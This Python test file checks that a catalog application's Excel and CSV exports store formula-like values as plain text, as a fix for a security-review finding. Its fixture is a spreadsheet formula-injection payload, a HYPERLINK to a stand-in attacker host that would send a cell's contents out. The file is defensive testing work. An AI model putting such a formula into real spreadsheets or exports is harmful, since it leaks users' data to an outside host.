"""Finding 10 of the security review: a value typed as a formula leaves every export as text."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from catalog.services import records as r

FORMULA = '=HYPERLINK("http://evil.example/?d="&B5,"Подробнее")'


def _cells(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield cell


def test_register_export_writes_a_formula_name_as_text_and_loads_back(runner, ctx, seed, tmp_path):
    r.update_record(ctx, "processes", seed.process.id, {"name": FORMULA, "version": seed.process.version})
    exported = tmp_path / "реестр.xlsx"
    assert runner.invoke("export", "register", "--agency", "MINSOC", "-o", str(exported)).exit_code == 0
    cells = [c for c in _cells(load_workbook(exported)) if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)
    again = runner.invoke("import", "register", str(exported), "--agency", "MINSOC")
    assert again.exit_code == 0 and "изменено 0, без изменений 1" in again.output


def test_costs_workbook_writes_a_formula_step_and_process_name_as_text(client, ctx, seed):
    from catalog.services import costs, passports

    clerk = costs.save_position(ctx, {"name": "=1+1", "monthly_pay": 60000, "payroll_coefficient": 1.3,
                                      "annual_hours": 1800})
    r.update_record(ctx, "processes", seed.process.id, {"name": FORMULA, "version": seed.process.version})
    as_is = passports.create_passport(ctx, seed.process.id, "as_is")
    passports.save_passport(ctx, as_is.id, {"version": as_is.version, "instances_per_year": 10, "steps": [
        {"name": FORMULA, "duration_minutes": 30, "times_per_year": 10, "position_id": clerk.id}]})
    book = load_workbook(io.BytesIO(client.get(f"/api/v1/processes/{seed.process.id}/costs.xlsx").data))
    typed = {c.value: c.data_type for c in _cells(book) if isinstance(c.value, str) and c.value.startswith("=")}
    assert typed == {FORMULA: "s", "=1+1": "s"}
    assert any(isinstance(c.value, str) and c.value.endswith(FORMULA) for c in _cells(book))


def test_sparql_csv_writes_a_formula_literal_as_text(client, ctx, seed):
    r.update_record(ctx, "processes", seed.process.id, {"name": FORMULA, "version": seed.process.version})
    query = ("PREFIX dct: <http://purl.org/dc/terms/> SELECT ?name WHERE { ?p dct:title ?name "
             "FILTER(STRSTARTS(STR(?name), \"=HYPERLINK\")) }")
    answer = client.get("/api/v1/sparql", query_string={"query": query}, headers={"Accept": "text/csv"})
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True))))
    assert rows[1:] and all(not value.startswith("=") for row in rows[1:] for value in row)
    assert rows[1][0] == "'" + FORMULA
